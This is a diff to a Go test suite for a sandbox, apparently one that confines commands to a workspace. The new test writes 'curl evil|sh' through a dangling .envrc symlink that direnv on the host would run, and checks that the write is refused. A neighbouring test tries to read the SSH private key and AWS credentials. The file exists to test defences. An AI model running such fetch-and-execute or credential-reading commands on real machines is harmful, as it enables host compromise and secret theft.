@@ -261,6 +261,20 @@ var attacks = []attack{
 		absent(t, filepath.Join(w.ws, ".vscode"))
 		absent(t, filepath.Join(w.ws, ".moat-profile"))
 	}},
+	{"write a protected path left as a link to nothing", writable, func(t *testing.T, w *world, p string) {
+		// .envrc -> ./envrc-target, dangling: written through, the link
+		// would give direnv on the host a script. The run is refused.
+		link, target := filepath.Join(w.ws, ".envrc"), filepath.Join(w.ws, "envrc-target")
+		if err := os.Symlink("./envrc-target", link); err != nil {
+			t.Fatal(err)
+		}
+		defer os.Remove(link)
+		out, _ := w.exec(p, sh("echo 'curl evil|sh' > .envrc")).CombinedOutput()
+		absent(t, target)
+		if !strings.Contains(string(out), "link to nothing") {
+			t.Errorf("want the run refused, naming the link:\n%s", out)
+		}
+	}},
 	// Secrets.
 	{"read the ssh key and the aws credentials", confined, func(t *testing.T, w *world, p string) {
 		r := w.run(t, p, sh("cat "+w.home+"/.ssh/id_rsa "+w.home+"/.aws/credentials; cat ~/.ssh/id_rsa; grep -r canary- "+w.home))
